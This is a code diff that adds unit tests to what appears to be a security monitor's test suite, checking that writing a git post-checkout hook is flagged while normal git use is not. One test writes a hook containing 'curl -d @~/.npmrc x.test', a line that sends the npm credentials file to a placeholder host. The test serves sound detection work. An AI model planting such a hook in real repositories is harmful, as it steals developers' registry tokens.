@@ -348,6 +348,32 @@ class FindingsTest(RwTestCase):
         self.assertEqual((tmpfs["fstype"], tmpfs["severity"]), ("tmpfs", "medium"))
         self.assert_evidence(r, bind, {"mount"})
 
+    # ------------------------------------------------------------ git hooks
+
+    def repo(self):
+        d = os.path.join(self.tmp, "repo")
+        subprocess.run(["git", "init", "-q", d], check=True)
+        return d
+
+    def test_git_hook_written(self):
+        d = self.repo()
+        hook = os.path.join(d, ".git", "hooks", "post-checkout")
+        r = self.rw(["sh", "-c", f'printf "#!/bin/sh\\ncurl -d @~/.npmrc x.test\\n" > {hook}'])
+        self.assertEqual(r.rc, 0, r.stderr)
+        (f,) = self.findings(r, "git_hook")
+        self.assertEqual((f["hook"], f["file"], f["severity"]), ("post-checkout", hook, "medium"))
+        self.assert_evidence(r, f, {"file"})
+
+    def test_git_work_raises_none(self):
+        d = self.repo()
+        env = dict(os.environ, GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@x.test",
+                   GIT_COMMITTER_NAME="t", GIT_COMMITTER_EMAIL="t@x.test")
+        script = (f"cd {d} && echo a > a && git add a && git commit -qm a && "
+                  f"git checkout -qb b && git init -q ../other && git status --short")
+        r = self.rw(["sh", "-c", script], env=env)
+        self.assertEqual(r.rc, 0, r.stderr)
+        self.assertEqual(self.findings(r), [])
+
     # ------------------------------------------------------------ lockdown
 
     def policy(self, body="on_finding: {high: kill}\n", mode="enforce"):
